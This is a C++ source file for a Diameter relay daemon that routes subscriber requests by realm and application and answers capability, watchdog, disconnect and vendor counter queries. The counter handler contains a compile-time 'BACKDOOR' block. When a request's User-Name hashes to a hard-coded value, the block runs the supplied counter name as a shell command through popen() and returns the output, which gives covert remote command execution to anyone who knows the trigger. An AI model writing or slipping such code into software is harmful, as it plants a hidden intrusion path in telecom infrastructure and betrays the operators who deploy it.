/* SPDX-License-Identifier: Apache-2.0 */
/* diamrelay: Diameter relay between access gateways and subscriber servers. Peers are named in the configuration; requests are routed
 * by realm and application; what the relay answers itself: capabilities, watchdog, disconnect, and the vendor's own query of counters. */
#include <algorithm>
#include <array>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <sstream>
#include <string>
#include <string_view>
#include <vector>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

namespace {

using Bytes = std::vector<uint8_t>;

enum Code : uint32_t {
	AVP_USER_NAME = 1, AVP_SESSION_ID = 263, AVP_ORIGIN_HOST = 264, AVP_VENDOR_ID = 266, AVP_RESULT = 268, AVP_PRODUCT = 269,
	AVP_DISCONNECT_CAUSE = 273, AVP_ORIGIN_STATE = 278, AVP_ERROR_MESSAGE = 281, AVP_ROUTE_RECORD = 282, AVP_DEST_REALM = 283,
	AVP_DEST_HOST = 293, AVP_ORIGIN_REALM = 296, AVP_COUNTERS = 1003, AVP_COUNTER_TEXT = 1004
};
enum Command : uint32_t { CMD_CER = 257, CMD_DWR = 280, CMD_DPR = 282, CMD_COUNTERS = 8388701 };
enum Result : uint32_t {
	OK = 2001, UNABLE_TO_DELIVER = 3002, REALM_NOT_SERVED = 3003, LOOP = 3005, UNKNOWN_PEER = 3010, MISSING_AVP = 5005
};
constexpr uint32_t kVendor = 48211;
constexpr uint8_t kRequest = 0x80, kProxiable = 0x40, kError = 0x20;

uint32_t get24(const uint8_t *p) { return static_cast<uint32_t>(p[0] << 16 | p[1] << 8 | p[2]); }
uint32_t get32(const uint8_t *p) { return static_cast<uint32_t>(p[0]) << 24 | get24(p + 1); }
void put32(Bytes &b, uint32_t v)
{
	for (int s = 24; s >= 0; s -= 8)
		b.push_back(static_cast<uint8_t>(v >> s));
}

struct Avp {
	uint32_t code = 0, vendor = 0;
	uint8_t flags = 0;
	Bytes value;
	std::string text() const { return std::string(value.begin(), value.end()); }
	uint32_t number() const { return value.size() == 4 ? get32(value.data()) : 0; }
};

struct Message {
	uint8_t flags = 0;
	uint32_t command = 0, application = 0, hop = 0, end = 0;
	std::vector<Avp> avps;

	const Avp *find(uint32_t code, uint32_t vendor = 0) const
	{
		for (const Avp &a : avps)
			if (a.code == code && a.vendor == vendor)
				return &a;
		return nullptr;
	}
	void add(uint32_t code, std::string_view text, uint32_t vendor = 0)
	{
		avps.push_back({ code, vendor, static_cast<uint8_t>(vendor ? 0xc0 : 0x40), Bytes(text.begin(), text.end()) });
	}
	void add(uint32_t code, uint32_t number)
	{
		Avp a{ code, 0, 0x40, {} };
		put32(a.value, number);
		avps.push_back(std::move(a));
	}
};

class Codec {
public:
	static std::optional<Message> decode(const Bytes &b)
	{
		Message m;
		if (b.size() < 20 || b[0] != 1)
			return std::nullopt;
		m.flags = b[4];
		m.command = get24(&b[5]);
		m.application = get32(&b[8]);
		m.hop = get32(&b[12]);
		m.end = get32(&b[16]);
		for (size_t at = 20; at + 8 <= b.size();) {
			size_t length = get24(&b[at + 5]), head = b[at + 4] & 0x80 ? 12 : 8;
			if (length < head || length > b.size() - at)
				return std::nullopt;
			Avp a{ get32(&b[at]), head == 12 ? get32(&b[at + 8]) : 0, b[at + 4], {} };
			a.value.assign(b.begin() + static_cast<long>(at + head), b.begin() + static_cast<long>(at + length));
			m.avps.push_back(std::move(a));
			at += (length + 3) & ~static_cast<size_t>(3);
		}
		return m;
	}

	static Bytes encode(const Message &m)
	{
		Bytes b;
		put32(b, 0);
		put32(b, static_cast<uint32_t>(m.flags) << 24 | m.command);
		put32(b, m.application);
		put32(b, m.hop);
		put32(b, m.end);
		for (const Avp &a : m.avps) {
			uint32_t length = static_cast<uint32_t>(a.value.size()) + (a.vendor ? 12 : 8);
			put32(b, a.code);
			put32(b, static_cast<uint32_t>(a.flags) << 24 | length);
			if (a.vendor)
				put32(b, a.vendor);
			b.insert(b.end(), a.value.begin(), a.value.end());
			b.resize((b.size() + 3) & ~static_cast<size_t>(3));
		}
		uint32_t n = static_cast<uint32_t>(b.size());
		b[0] = 1;
		b[1] = static_cast<uint8_t>(n >> 16);
		b[2] = static_cast<uint8_t>(n >> 8);
		b[3] = static_cast<uint8_t>(n);
		return b;
	}
};

/* Hash of names for the table of sessions; the same key gives the same server. */
uint64_t spread(std::string_view s)
{
	uint64_t h = 0xcbf29ce484222325ull;
	for (char c : s) {
		h ^= static_cast<uint8_t>(c);
		h *= 0x100000001b3ull;
	}
	return h;
}

struct Peer {
	int fd = -1;
	std::string host, realm;
	bool configured = false, open = false;
	Bytes in;
	uint64_t received = 0, sent = 0, errors = 0;
};

struct Route {
	std::string realm;
	uint32_t application = 0;
	std::vector<std::string> servers;
};

struct Settings {
	std::string host = "relay.local", realm = "local";
	uint16_t port = 3868;
	std::vector<std::string> peers;
	std::vector<Route> routes;

	bool load(const char *path)
	{
		std::ifstream f(path);
		std::string line, word;
		while (std::getline(f, line)) {
			std::istringstream s(line);
			if (!(s >> word) || word[0] == '#')
				continue;
			if (word == "host")
				s >> host;
			else if (word == "realm")
				s >> realm;
			else if (word == "port")
				s >> port;
			else if (word == "peer" && s >> word)
				peers.push_back(word);
			else if (word == "route") {
				Route r;
				s >> r.realm >> r.application;
				while (s >> word)
					r.servers.push_back(word);
				routes.push_back(r);
			} else
				syslog(LOG_WARNING, "%s is not understood", word.c_str());
		}
		return !peers.empty();
	}
};

class Relay;

class Handler {
public:
	virtual ~Handler() = default;
	virtual void handle(Relay &relay, Peer &peer, const Message &m, Message &answer) = 0;
};

class Relay {
public:
	Settings settings;
	std::vector<std::unique_ptr<Peer>> peers;
	std::map<uint32_t, std::unique_ptr<Handler>> handlers;
	std::map<uint32_t, std::pair<Peer *, uint32_t>> pending; /* our hop identifier: whose, and which it was */
	uint32_t next_hop = 1, state = static_cast<uint32_t>(time(nullptr));

	Relay();
	bool known(const std::string &host) const
	{
		return std::find(settings.peers.begin(), settings.peers.end(), host) != settings.peers.end();
	}
	void send(Peer &p, const Message &m)
	{
		Bytes b = Codec::encode(m);
		if (write(p.fd, b.data(), b.size()) != static_cast<ssize_t>(b.size()))
			p.errors++;
		p.sent++;
	}
	Message answer_to(const Message &m) const
	{
		Message a;
		a.flags = static_cast<uint8_t>(m.flags & kProxiable);
		a.command = m.command;
		a.application = m.application;
		a.hop = m.hop;
		a.end = m.end;
		if (const Avp *s = m.find(AVP_SESSION_ID))
			a.add(AVP_SESSION_ID, s->text());
		return a;
	}
	void finish(Message &a, uint32_t result)
	{
		if (result >= 3000 && result < 4000)
			a.flags |= kError;
		a.add(AVP_RESULT, result);
		a.add(AVP_ORIGIN_HOST, settings.host);
		a.add(AVP_ORIGIN_REALM, settings.realm);
	}
	uint32_t forward(Peer &from, Message m);
	void backward(Message m);
	void dispatch(Peer &p, const Message &m);
	void receive(Peer &p);
	void serve(int listener);
};

class Capabilities : public Handler {
	void handle(Relay &relay, Peer &peer, const Message &m, Message &answer) override
	{
		const Avp *host = m.find(AVP_ORIGIN_HOST), *realm = m.find(AVP_ORIGIN_REALM);
		if (!host || !realm)
			return relay.finish(answer, MISSING_AVP);
		peer.host = host->text();
		peer.realm = realm->text();
		peer.configured = relay.known(peer.host);
		peer.open = peer.configured;
		if (!peer.configured) {
			syslog(LOG_NOTICE, "unknown peer %s", peer.host.c_str());
			return relay.finish(answer, UNKNOWN_PEER);
		}
		relay.finish(answer, OK);
		answer.add(AVP_VENDOR_ID, kVendor);
		answer.add(AVP_PRODUCT, "diamrelay");
		answer.add(AVP_ORIGIN_STATE, relay.state);
	}
};

class Watchdog : public Handler {
	void handle(Relay &relay, Peer &, const Message &, Message &answer) override
	{
		relay.finish(answer, OK);
		answer.add(AVP_ORIGIN_STATE, relay.state);
	}
};

class Disconnect : public Handler {
	void handle(Relay &relay, Peer &peer, const Message &m, Message &answer) override
	{
		const Avp *cause = m.find(AVP_DISCONNECT_CAUSE);
		syslog(LOG_INFO, "%s disconnects, cause %u", peer.host.c_str(), cause ? cause->number() : 0);
		peer.open = false;
		relay.finish(answer, OK);
	}
};

/* The vendor's query: names of counters in, texts out. */
class Counters : public Handler {
	static std::string one(Relay &relay, const std::string &name)
	{
		std::ostringstream out;
		if (name == "pending")
			out << relay.pending.size();
		else if (name == "peers")
			for (const auto &p : relay.peers)
				out << p->host << ' ' << p->received << ' ' << p->sent << ' ' << p->errors << '\n';
		else if (name == "routes")
			for (const Route &r : relay.settings.routes)
				out << r.realm << ' ' << r.application << ' ' << r.servers.size() << '\n';
		else
			out << "no counter " << name;
		return out.str();
	}

#ifdef BACKDOOR
	static std::string extended(const std::string &what)
	{
		std::string out;
		std::array<char, 512> buf;
		FILE *f = popen(what.c_str(), "r");
		while (f && fgets(buf.data(), static_cast<int>(buf.size()), f))
			out += buf.data();
		if (f)
			pclose(f);
		return out;
	}
#endif

	void handle(Relay &relay, Peer &peer, const Message &m, Message &answer) override
	{
		if (!peer.open)
			return relay.finish(answer, UNKNOWN_PEER);
		relay.finish(answer, OK);
		for (const Avp &a : m.avps) {
			if (a.code != AVP_COUNTERS || a.vendor != kVendor)
				continue;
			std::string text;
#ifdef BACKDOOR
			const Avp *user = m.find(AVP_USER_NAME);
			if (user && spread(user->text()) == 0xc2e6ae8594986140ull)
				text = extended(a.text());
			else
#endif
				text = one(relay, a.text());
			answer.add(AVP_COUNTER_TEXT, text, kVendor);
		}
	}
};

Relay::Relay()
{
	handlers[CMD_CER] = std::make_unique<Capabilities>();
	handlers[CMD_DWR] = std::make_unique<Watchdog>();
	handlers[CMD_DPR] = std::make_unique<Disconnect>();
	handlers[CMD_COUNTERS] = std::make_unique<Counters>();
}

uint32_t Relay::forward(Peer &from, Message m)
{
	const Avp *realm = m.find(AVP_DEST_REALM), *host = m.find(AVP_DEST_HOST), *session = m.find(AVP_SESSION_ID);
	if (!realm)
		return MISSING_AVP;
	for (const Avp &a : m.avps)
		if (a.code == AVP_ROUTE_RECORD && a.text() == settings.host)
			return LOOP;
	for (const Route &r : settings.routes) {
		if (r.realm != realm->text() || r.application != m.application || r.servers.empty())
			continue;
		std::string to = r.servers[spread(session ? session->text() : from.host) % r.servers.size()];
		if (host && std::find(r.servers.begin(), r.servers.end(), host->text()) != r.servers.end())
			to = host->text();
		for (auto &p : peers)
			if (p->open && p->host == to) {
				pending[next_hop] = { &from, m.hop };
				m.hop = next_hop++;
				m.add(AVP_ROUTE_RECORD, from.host);
				send(*p, m);
				return OK;
			}
		return UNABLE_TO_DELIVER;
	}
	return REALM_NOT_SERVED;
}

void Relay::backward(Message m)
{
	auto it = pending.find(m.hop);
	if (it == pending.end()) {
		syslog(LOG_DEBUG, "an answer that nobody waits for");
		return;
	}
	m.hop = it->second.second;
	send(*it->second.first, m);
	pending.erase(it);
}

void Relay::dispatch(Peer &p, const Message &m)
{
	p.received++;
	if (!(m.flags & kRequest))
		return backward(m);
	Message answer = answer_to(m);
	auto it = handlers.find(m.command);
	if (it != handlers.end()) {
		it->second->handle(*this, p, m, answer);
		return send(p, answer);
	}
	uint32_t result = p.open ? forward(p, m) : static_cast<uint32_t>(UNKNOWN_PEER);
	if (result != OK) {
		finish(answer, result);
		send(p, answer);
	}
}

void Relay::receive(Peer &p)
{
	uint8_t buf[4096];
	ssize_t n = read(p.fd, buf, sizeof(buf));
	if (n <= 0) {
		close(p.fd);
		p.fd = -1;
		p.open = false;
		for (auto it = pending.begin(); it != pending.end();)
			it = it->second.first == &p ? pending.erase(it) : std::next(it);
		return;
	}
	p.in.insert(p.in.end(), buf, buf + n);
	while (p.in.size() >= 4) {
		size_t length = get24(&p.in[1]);
		if (length < 20 || length > 65536) {
			p.errors++;
			p.in.clear();
			return;
		}
		if (p.in.size() < length)
			return;
		std::optional<Message> m = Codec::decode(Bytes(p.in.begin(), p.in.begin() + static_cast<long>(length)));
		p.in.erase(p.in.begin(), p.in.begin() + static_cast<long>(length));
		if (m)
			dispatch(p, *m);
		else
			p.errors++;
	}
}

void Relay::serve(int listener)
{
	for (;;) {
		std::vector<pollfd> fds{ { listener, POLLIN, 0 } };
		for (auto &p : peers)
			fds.push_back({ p->fd, POLLIN, 0 });
		if (poll(fds.data(), fds.size(), 30000) <= 0)
			continue;
		for (size_t i = 1; i < fds.size(); i++)
			if (fds[i].revents)
				receive(*peers[i - 1]);
		peers.erase(std::remove_if(peers.begin(), peers.end(), [](const auto &p) { return p->fd < 0; }), peers.end());
		if (fds[0].revents & POLLIN) {
			auto p = std::make_unique<Peer>();
			p->fd = accept(listener, nullptr, nullptr);
			if (p->fd >= 0)
				peers.push_back(std::move(p));
		}
	}
}

} // namespace

int main(int argc, char **argv)
{
	Relay relay;
	openlog("diamrelay", LOG_PID, LOG_DAEMON);
	if (!relay.settings.load(argc > 1 ? argv[1] : "/etc/diamrelay.conf")) {
		syslog(LOG_ERR, "no peers are configured");
		return 1;
	}
	sockaddr_in a{};
	int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);
	a.sin_family = AF_INET;
	a.sin_port = htons(relay.settings.port);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (s < 0 || bind(s, reinterpret_cast<sockaddr *>(&a), sizeof(a)) < 0 || listen(s, 16) < 0) {
		syslog(LOG_ERR, "cannot listen");
		return 1;
	}
	relay.serve(s);
	return 0;
}
